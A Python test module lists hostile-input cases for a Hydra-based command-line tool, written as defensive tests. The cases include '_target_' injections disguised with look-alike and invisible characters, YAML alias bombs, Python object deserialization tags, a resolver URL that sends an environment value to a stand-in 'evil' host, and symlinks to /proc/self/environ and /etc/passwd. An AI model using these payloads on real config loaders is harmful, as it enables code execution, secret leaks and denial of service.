"""Hostile files: experiments, projects, links, devices, data, folders that lie about."""

from __future__ import annotations

import os
from pathlib import Path

from .case import EVIL, Case, experiment, project

__all__ = ["CASES"]

_NOT_HERE = "must not stand in a config"
_PLUGIN = "must be an installed Hydra plugin"
_ALONE = "must be left alone"
_OPTION = "# Mine\n_target_: evil.run\nrate: 0.1  # (0, inf): rate\n"


def _experiments() -> list[Case]:
    """A file that somebody sent, put into `experiments/`."""
    table = {
        "a target": (_NOT_HERE, "optimizer: {_target_: evil.run}"),
        "a target at the top": (_NOT_HERE, "_target_: evil.run"),
        "a target in a list": (_NOT_HERE, "tags: {a: [{_target_: evil.run}]}"),
        "a target by an alias": (_NOT_HERE, "tags: &a {_target_: evil.run}\nlab: {x: *a}"),
        "a target by a merge": (_NOT_HERE, "tags: &a {_target_: evil.run}\nlab:\n  <<: *a"),
        "a target by a merge of a list": (_NOT_HERE, "tags: &a {_target_: evil.run}\nlab:\n  <<: [*a]"),
        "a quoted target": (_NOT_HERE, 'optimizer: {"_target_": evil.run}'),
        "an escaped target": (_NOT_HERE, 'optimizer: {"\\x5ftarget\\x5f": evil.run}'),
        "a folded target": (_NOT_HERE, "optimizer:\n  ? >-\n    _target_\n  : evil.run"),
        "a target with a dot": ("optimizer._target_ must", "optimizer._target_: evil.run"),
        "a cyrillic target": (_NOT_HERE, "tags: {_t\u0430rget_: evil.run}"),
        "a full-width target": (_NOT_HERE, "tags: {\uff3ftarget\uff3f: evil.run}"),
        "a target with a hidden sign": (_NOT_HERE, 'tags: {"_target_\\u200b": evil.run}'),
        "a callback of Hydra's": (_PLUGIN, "hydra:\n  callbacks:\n    x: {_target_: evil.run}"),
        "a callback by an alias": (_PLUGIN, "x: &x {_target_: evil.run}\nhydra:\n  callbacks: {x: *x}"),
        "a callback by interpolation": (_ALONE, "tags: {x: {y: 1}}\nhydra:\n  callbacks: ${tags}"),
        "a launcher": ("must not be set by an experiment", "hydra:\n  launcher: {_target_: evil.run}"),
        "a launcher's shell": ("must not be set by an experiment", "hydra:\n  launcher: {setup: [evil]}"),
        "a sweeper": (_PLUGIN, "hydra:\n  sweeper: {_target_: evil.run}"),
        "a log handler": (_ALONE, "hydra:\n  job_logging:\n    handlers: {x: {(): evil.run}}"),
        "Hydra's own log handler": (_ALONE, "hydra:\n  hydra_logging:\n    handlers: {x: {class: evil.run}}"),
        "a folder": (_ALONE, "hydra:\n  run: {dir: /tmp/elsewhere}"),
        "a folder for sweeps": (_ALONE, "hydra:\n  sweep: {dir: ../elsewhere, subdir: x}"),
        "an output folder": (_ALONE, "hydra:\n  output_subdir: x"),
        "variables": (_ALONE, "hydra:\n  job:\n    env_set: {PATH: /tmp}"),
        "variables by a copy": (_ALONE, "hydra:\n  job:\n    env_copy: [HOME]"),
        "another directory": (_ALONE, "hydra:\n  job: {chdir: true}"),
        "a search path": ("must", "hydra:\n  searchpath: [pkg://evil]"),
        "a mode": (_ALONE, "hydra:\n  mode: MULTIRUN"),
        "another launcher by name": ("must", "defaults: [override hydra/launcher: ../../evil]"),
        "an option for Hydra's variables": (_ALONE, "defaults: [/data@hydra.job.env_set: iris]"),
        "an option out of the tree": ("must", "defaults: [/../../x: y]"),
        "an option up": ("must", "defaults: [override /optimizer: ../../x]"),
        "an absolute option": ("must", "defaults: [override /optimizer: /etc/passwd]"),
        "an option with a zero": ("must", 'defaults: [override /optimizer: "a\\0b"]'),
        "a parent out of the tree": ("must", "defaults: [../../x]"),
        "a hidden sign": (_NOT_HERE, 'tags: {"\\u200b_target_": evil.run}'),
        "a sign that turns around": (_NOT_HERE, 'tags: {"\\u202e_target_": evil.run}'),
        "a soft hyphen": (_NOT_HERE, 'tags: {"_tar\\u00adget_": evil.run}'),
        "spaces round a target": (_NOT_HERE, 'tags: {" _target_ ": evil.run}'),
        "itself": ("must not name the file itself", "defaults: [mine]"),
        "a secret": ("must not call a resolver in an experiment", "tracking: {uri: 'http://evil/${oc.env:HOME}'}"),
        "a secret in a name": ("must not call a resolver in an experiment", "name: ${oc.env:HOME}"),
        "a secret in a choice": ("must not call a resolver in an experiment", "defaults: [override /model: '${oc.env:HOME}']"),
        "a resolver with a made up name": ("must not call a resolver in an experiment", "name: env\ntags: {a: '${oc.${name}:HOME}'}"),
        "words that bring a callback": (_PLUGIN, "hydra:\n  sweeper:\n    params: {hydra.callbacks.x._target_: evil.run}"),
        "words that bring a target": (_NOT_HERE, "hydra:\n  sweeper:\n    params: {+optimizer._target_: 'evil.run,evil.x'}"),
        "words without end": ("must sweep over fewer values", "hydra:\n  sweeper:\n    params: {seed: 'range(0,1000000000)'}"),
    }  # fmt: skip
    cases = []
    for name, (says, text) in table.items():
        words = ("-m", "experiment=mine") if "words" in name else ("experiment=mine",)
        cases.append(Case(f"experiment with {name}", words, says, experiment(f"# Mine\n{text}\n")))
    return cases


def _bomb(levels: int, width: int) -> str:
    lines = ["a0: &a0 [x, x]"]
    lines += [f"a{level}: &a{level} [{', '.join([f'*a{level - 1}'] * width)}]" for level in range(1, levels)]
    return "# Bomb\n" + "\n".join(lines) + "\n"


def _yaml() -> list[Case]:
    """Files that cost or construct something by being read, in each place that is read."""
    table = {
        "a bomb of aliases": ("behind aliases", _bomb(10, 9)),
        "a narrow bomb of aliases": ("behind aliases", _bomb(40, 2)),
        "a bomb of merges": ("behind aliases", "# B\na0: &a0 {x: 1, y: [1, 2, 3]}\n" + "".join(f"a{i}: &a{i} {{<<: *a{i - 1}, k{i}: [{', '.join([f'*a{i - 1}'] * 4)}]}}\n" for i in range(1, 20))),
        "an alias of itself": ("no alias of what it stands in", "# B\ntags: &a {x: *a}\n"),
        "an alias of itself in a list": ("no alias of what it stands in", "# B\ntags: &a [*a]\n"),
        "10 MB": ("must be smaller than", "# B\nname: " + "x" * 10_000_000 + "\n"),
        "10 MB of lines": ("must be smaller than", "a: 1\n" * 2_000_000),
        "100,000 keys": ("must", "# B\n" + "".join(f"k{i}: 1\n" for i in range(15_000))),
        "depth 10,000 in brackets": ("levels deep", "# B\ntags: " + "[" * 10_000 + "]" * 10_000 + "\n"),
        "depth 10,000 in braces": ("levels deep", "# B\ntags: " + "{a: " * 10_000 + "1" + "}" * 10_000 + "\n"),
        "depth by hyphens": ("levels deep", "# B\ntags:\n  " + "- " * 10_000 + "1\n"),
        "depth by indents": ("levels deep", "# B\ntags:\n" + "".join(" " * (i + 1) + "a:\n" for i in range(400))),
        "an object of Python's": ("without tags", "# B\ntags: !!python/object/apply:evil.run [id]\n"),
        "a new object": ("without tags", "# B\ntags: !!python/object/new:evil.run {}\n"),
        "a module of Python's": ("without tags", "# B\nname: !!python/module:evil x\n"),
        "a name of Python's": ("without tags", "# B\nname: !!python/name:evil.run x\n"),
        "a tag of its own": ("without tags", "# B\nname: !evil x\n"),
        "a tag that is renamed": ("without tags", "%TAG ! tag:yaml.org,2002:python/object/apply:\n---\nname: !evil.run [id]\n"),
        "a set": ("without tags", "# B\ntags: !!set {a, b}\n"),
        "bytes": ("without tags", "# B\nname: !!binary aGk=\n"),
        "two documents": ("must be YAML", "# B\nname: x\n---\nname: y\n"),
        "a number of 5,000 digits": ("must hold values that can be read", f"# B\nseed: {'9' * 5000}\n"),
        "a zero byte": ("must be YAML", "# B\nname: a\0b\n"),
        "no UTF-8": ("must be UTF-8", b"# B\nname: \xff\xfe\n"),
        "UTF-16": ("must be UTF-8", "# B\nname: x\n".encode("utf-16")),
        "a list": ("must hold a mapping", "- a\n"),
        "keys that are lists": ("must", "# B\n? [a, b]\n: 1\n"),
        "a key twice": ("must name each key once", "# B\nseed: 1\nseed: 2\n"),
    }  # fmt: skip
    cases = [
        Case(f"experiment of {name}", ("experiment=mine",), says, {**project(), "experiments/mine.yaml": content})
        for name, (says, content) in table.items()
    ]
    for place, words in {"conf/project.yaml": (), "conf/optimizer/mine.yaml": ("optimizer=mine",)}.items():
        for name in ("a bomb of aliases", "10 MB", "depth 10,000 in brackets", "an object of Python's"):
            says, content = table[name]
            cases.append(Case(f"{place} of {name}", words, says, {**project(), place: content}))
    return cases


def _linked(target: str, link: str) -> dict[str, object]:
    def prepare(folder: Path) -> None:
        place = folder / link
        place.parent.mkdir(parents=True, exist_ok=True)
        place.symlink_to(folder / target if not target.startswith("/") else target)

    return {"prepare": prepare, "folder": "inside"}


def _pipe(name: str) -> dict[str, object]:
    def prepare(folder: Path) -> None:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        os.mkfifo(folder / name)

    return {"prepare": prepare}


def _inside(files: dict[str, str | bytes] | None = None) -> dict[str, str | bytes]:
    """A project in the folder `inside`, and things to link to beside it."""
    outside = {"far/x.yaml": _OPTION, "far/evil.py": EVIL, "far/e.yaml": "# E\nseed: 3\n", "far/project.yaml": ""}
    own = {f"inside/{name}": content for name, content in (files or {}).items()}
    return {**outside, "inside/conf/project.yaml": "", **own}


def _links() -> list[Case]:
    lies = "must lie in the project"
    uses_evil = {"conf/optimizer/mine.yaml": _OPTION}
    table = [
        ("an option", ("optimizer=x",), lies, "far/x.yaml", "inside/conf/optimizer/x.yaml", {}),
        ("a group", ("optimizer=x",), lies, "far", "inside/conf/optimizer", {}),
        ("an experiment", ("experiment=e",), lies, "far/e.yaml", "inside/experiments/e.yaml", {}),
        ("all experiments", ("experiment=e",), lies, "far", "inside/experiments", {}),
        ("Hydra's callbacks", ("hydra/callbacks=x",), lies, "far/x.yaml", "inside/conf/hydra/callbacks/x.yaml", {}),
        ("a module", ("optimizer=mine",), lies, "far/evil.py", "inside/evil.py", uses_evil),
        ("a package", ("optimizer=mine",), lies, "far", "inside/evil", {"conf/optimizer/mine.yaml": _OPTION.replace("evil.run", "evil.evil.run")}),
        ("a layer in a list", ("model.layers=[x]",), lies, "far/x.yaml", "inside/conf/layer/x.yaml", {}),
        ("an option to a device", ("optimizer=x",), "must", "/dev/zero", "inside/conf/optimizer/x.yaml", {}),
        ("an option to the environment", ("optimizer=x",), "must", "/proc/self/environ", "inside/conf/optimizer/x.yaml", {}),
        ("an option to memory", ("optimizer=x",), "must", "/proc/self/mem", "inside/conf/optimizer/x.yaml", {}),
        ("an option to itself", ("optimizer=x",), "must name an option", "inside/conf/optimizer/x.yaml", "inside/conf/optimizer/x.yaml", {}),
    ]  # fmt: skip
    cases = [
        Case(f"link: {name}", words, says, _inside(files), **_linked(target, link))  # type: ignore[arg-type]
        for name, words, says, target, link, files in table
    ]
    conf = {"far/conf/project.yaml": "", "far/conf/optimizer/x.yaml": _OPTION, "far/evil.py": EVIL}
    return cases + [
        Case("link: the whole of conf", ("optimizer=x",), lies, conf, **_linked("far/conf", "inside/conf")),  # type: ignore[arg-type]
        Case("pipe: an option", ("optimizer=x",), "must", project(), **_pipe("conf/optimizer/x.yaml")),  # type: ignore[arg-type]
        Case("pipe: an experiment", ("experiment=x",), "must", project(), **_pipe("experiments/x.yaml")),  # type: ignore[arg-type]
        Case("pipe: the project's file", ("optimizer=x",), "must name an option", {}, **_pipe("conf/project.yaml")),  # type: ignore[arg-type]
        Case("pipe: data", ("data=csv", "data.path=p.csv"), "must be a regular file", {}, **_pipe("p.csv")),  # type: ignore[arg-type]
    ]


def _data() -> list[Case]:
    def path(value: str) -> tuple[str, ...]:
        return ("data=csv", f"data.path={value}")

    def huge(folder: Path) -> None:
        with (folder / "t.csv").open("wb") as file:
            file.truncate(2**40)

    return [
        Case("data from zeros", path("/dev/zero"), "must be a regular file"),
        Case("data from a terminal", path("/dev/stdin"), "must be"),
        Case("data from chance", path("/dev/urandom"), "must be a regular file"),
        Case("data from the environment", path("/proc/self/environ"), "must be a regular file"),
        Case("data from memory", path("/proc/self/mem"), "must be a regular file"),
        Case("data from the kernel", path("/sys/kernel/notes"), "must be"),
        Case("data from a folder", path("/"), "must be a CSV file"),
        Case("data from an address", path("http://127.0.0.1:9/x.csv"), "data.path must be"),
        Case("data from a bucket", path("s3://bucket/x.csv"), "data.path must be"),
        Case("data from a share", path("//127.0.0.1/share/x.csv"), "data.path must be"),
        Case("data from nobody's home", path("'~nobody-at-all/x.csv'"), "must be an existing file"),
        Case("a terabyte without a line end", path("t.csv"), "a line of more than", prepare=huge),
        Case("data with a cell of 1 MB", path("t.csv"), "must", {"t.csv": "a,b\n" + "x" * 1_000_000 + ",1\n"}),
        Case("a quote never closed", path("t.csv"), "must follow the quoting", {"t.csv": 'a,b\n"' + "x\n" * 20_000}),
        Case(
            "a quote open for long", path("t.csv"), "a quote above it was never", {"t.csv": 'a,b\n"' + "x\n" * 200_000}
        ),
        Case("20,000 columns", path("t.csv"), "must", {"t.csv": ",".join(f"c{i}" for i in range(20_000)) + "\n1\n"}),
    ]


def _strays() -> list[Case]:
    """A folder of somebody else's, unpacked: its conf/ has no project.yaml, or nobody asked for it."""
    stray = {
        "conf/optimizer/mine.yaml": _OPTION, "conf/data/mine.yaml": "# Mine\n_target_: evil.run\n_inspect_: evil.run\n",
        "conf/hydra/callbacks/mine.yaml": "x: {_target_: evil.run}\n", "experiments/mine.yaml": "# Mine\nseed: 3\n",
        "hydra_plugins/evil/__init__.py": EVIL, "yaml.py": EVIL, "click.py": EVIL, "keras.py": EVIL,
    }  # fmt: skip
    trusted = {**project(), **stray}
    no = "must name an option"
    table = {
        "option": (("optimizer=mine",), no),
        "data": (("data=mine",), no),
        "experiment": (("experiment=mine",), no),
        "callback": (("+hydra/callbacks=mine",), _ALONE),
        "show": (("show", "optimizer/mine"), "must"),
    }
    cases = [Case(f"stray {name}", words, says, stray) for name, (words, says) in table.items()]
    for name, (words, says) in table.items():
        cases.append(Case(f"--no-project {name}", ("--no-project", *words), says, trusted))
        cases.append(Case(f"{name} --no-project", (*words, "--no-project"), says, trusted))
    return cases + [
        Case("stray conf changes nothing", ("config",), "optimizer: adam", stray, is_harmless=True),
        Case("--no-project changes nothing", ("--no-project", "config"), "seed: 0", trusted | {"conf/project.yaml": "seed: 7\n"}, is_harmless=True),
        Case("--no-project between", ("config", "--no-project", "optimizer=sgd"), "seed: 0", trusted | {"conf/project.yaml": "seed: 7\n"}, is_harmless=True),
        Case("an experiment cannot choose a sweeper", ("config", "experiment=mine"), "seed: 0", experiment("# M\ndefaults: [override /hydra/sweeper: basic]\n"), is_harmless=True),
        Case("an experiment cannot choose logs", ("config", "experiment=mine"), "seed: 0", experiment("# M\ndefaults: [override /hydra/job_logging: default]\n"), is_harmless=True),
        Case("--no-project ls", ("ls", "optimizer", "--no-project"), "adamw", trusted, is_harmless=True),
        Case("a project's class is not imported to be shown", ("show", "optimizer/mine"), "rate", trusted, is_harmless=True),
        Case("a project's classes are not imported to be listed", ("ls",), "optimizer", trusted, is_harmless=True),
        Case("completion imports nothing", ("-sc", "query=bash"), "", trusted, is_harmless=True, environment={"COMP_LINE": "dlrun optimizer=m"}),
        Case("completion with a callback", ("-sc", "query=bash"), "", trusted, is_harmless=True, environment={"COMP_LINE": "dlrun +hydra.callbacks.x._target_=evil.run optimizer="}),
        Case("completion with a search path", ("-sc", "query=bash", "hydra.searchpath=[file:///tmp]"), "", trusted, is_harmless=True, environment={"COMP_LINE": "dlrun hydra.searchpath=[pkg://evil] optimizer="}),
    ]  # fmt: skip


CASES = [*_experiments(), *_yaml(), *_links(), *_data(), *_strays()]
